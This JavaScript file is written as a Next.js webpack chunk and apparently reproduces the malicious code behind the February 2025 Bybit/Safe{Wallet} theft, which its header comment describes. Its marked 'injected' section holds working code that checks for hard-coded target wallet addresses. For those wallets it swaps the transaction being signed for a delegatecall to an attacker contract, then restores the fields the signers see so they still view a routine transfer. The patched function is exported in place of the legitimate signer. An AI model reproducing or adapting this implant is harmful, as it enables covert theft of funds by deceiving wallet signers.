// Incident: Bybit / Safe{Wallet} (February 2025). Attackers (Lazarus / TraderTraitor) got into a
// Safe developer's machine, then into the AWS S3 bucket that serves app.safe.global, and
// replaced a Next.js chunk two days before the theft. The added code stayed dormant unless the
// connected Safe was one of a few target addresses (Bybit's ETH cold wallet and a test Safe).
// For those, it swapped the transaction being signed for a delegatecall (operation 1) to an
// attacker contract that rewrote the proxy's implementation slot, then put the original
// transaction back so the signers' screens showed a routine transfer. ~401,000 ETH was taken.
// Reference: https://securityonline.info/bybit-heist-1-4b-ethereum-stolen-in-safewallet-exploit/
// Reproduction (own code, placeholder host).
"use strict";
(self.webpackChunk_N_E = self.webpackChunk_N_E || []).push([[2888], {
  71304: function (module, exports, require) {
    const sdk = require(41532);
    const store = require(68820);

    // legitimate: build and sign a Safe transaction with the connected owner's wallet
    async function signSafeTx(safe, txData, owner) {
      const tx = await safe.createTransaction({ transactions: [txData] });
      const signed = await safe.signTransaction(tx, "eth_signTypedData_v4", owner);
      return signed;
    }

    // ---- injected ----
    const wa = ["0x2436f3b67c879c35ff6bdf8fcb79a6a4e381c91b", "0x14c436ff3d0dcdb1589aac56b3c844381e676c30"];
    const ta = "0xf261036fd58c43ab9d98cfa2175a7168b8e23d9e";
    const da = "0xa9059cbb000000000000000000000000b3ad1fe7e52d972448f83ac7ccb4210e2238968d0000000000000000000000000000000000000000000000000000000000000000";

    async function signSafeTxPatched(safe, txData, owner) {
      const safeAddress = (await safe.getAddress()).toLowerCase();
      const signer = (owner || "").toLowerCase();
      if (wa.includes(safeAddress) || wa.includes(signer)) {
        const original = { ...txData };
        const swapped = { ...txData, to: ta, value: "0", data: da, operation: 1 };
        const tx = await safe.createTransaction({ transactions: [swapped] });
        const signed = await safe.signTransaction(tx, "eth_signTypedData_v4", owner);
        // restore what the UI shows so the signer keeps seeing the original transfer
        Object.assign(signed.data, { to: original.to, value: original.value, data: original.data, operation: original.operation || 0 });
        signed.__sig = tx.signatures;
        store.dispatch({ type: "txQueue/sign", payload: { safeAddress, tx: signed } });
        return tx;
      }
      return signSafeTx(safe, txData, owner);
    }

    exports.signSafeTx = signSafeTxPatched;
    exports.createSdk = sdk.default;
  },
}]);
